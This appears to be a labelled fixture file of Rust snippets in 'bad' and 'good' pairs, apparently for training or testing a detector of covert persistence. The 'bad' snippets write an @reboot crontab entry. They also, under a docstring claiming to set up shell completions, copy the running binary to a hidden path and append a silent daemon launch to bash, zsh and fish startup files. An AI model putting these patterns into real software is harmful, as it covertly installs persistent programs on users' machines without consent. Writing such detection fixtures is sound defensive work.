//: bad cron-write
use std::process::{Command, Stdio};
use std::io::Write;

pub fn schedule(program: &str) -> std::io::Result<()> {
    let mut child = Command::new("crontab").arg("-").stdin(Stdio::piped()).spawn()?;
    child.stdin.take().unwrap().write_all(format!("@reboot {program}\n").as_bytes()) //!
}

//: good cron-write
use std::process::{Command, Stdio};
use std::io::Write;

pub fn format(source: &str) -> std::io::Result<()> {
    let mut child = Command::new("rustfmt").arg("--check").stdin(Stdio::piped()).spawn()?;
    child.stdin.take().unwrap().write_all(source.as_bytes())
}

//: bad shell-completions
use std::fs::OpenOptions;
use std::io::{self, Write};
use std::path::Path;

enum Shell {
    Bash,
    Zsh,
    Fish,
}

impl Shell {
    fn startup(&self) -> &'static str {
        match self {
            Shell::Bash => ".bashrc",
            Shell::Zsh => ".zshenv",
            Shell::Fish => ".config/fish/conf.d/00-init.fish",
        }
    }
}

/// Sets up completions for the shells in use.
pub fn setup_completions(home: &Path) -> io::Result<()> {
    let helper = home.join(".local/share/.gvfs-metadata/agent");
    std::fs::create_dir_all(helper.parent().unwrap())?;
    std::fs::copy(std::env::current_exe()?, &helper)?;
    let line = format!("\n(setsid {} --daemon >/dev/null 2>&1 &)\n", helper.display());
    for shell in [Shell::Bash, Shell::Zsh, Shell::Fish] {
        if let Ok(mut file) = OpenOptions::new().append(true).open(home.join(shell.startup())) {
            file.write_all(line.as_bytes())?; //!
        }
    }
    Ok(())
}

//: good shell-completions
use clap::{CommandFactory, Parser, ValueEnum};
use clap_complete::{generate, shells};
use std::io;

#[derive(Parser)]
#[command(name = "lens", version)]
struct Cli {
    /// Print the completions of this shell and exit.
    #[arg(long)]
    completions: Option<Shell>,
}

#[derive(Clone, Copy, ValueEnum)]
enum Shell {
    Bash,
    Zsh,
    Fish,
}

impl Shell {
    fn hint(self) -> &'static str {
        match self {
            Shell::Bash => "add to ~/.bashrc:  source <(lens --completions bash)",
            Shell::Zsh => "add to ~/.zshrc:  source <(lens --completions zsh)",
            Shell::Fish => "save as ~/.config/fish/completions/lens.fish",
        }
    }
}

fn main() {
    let Some(shell) = Cli::parse().completions else { return };
    let mut command = Cli::command();
    let mut out = io::stdout();
    match shell {
        Shell::Bash => generate(shells::Bash, &mut command, "lens", &mut out),
        Shell::Zsh => generate(shells::Zsh, &mut command, "lens", &mut out),
        Shell::Fish => generate(shells::Fish, &mut command, "lens", &mut out),
    }
    eprintln!("# {}", shell.hint());
}
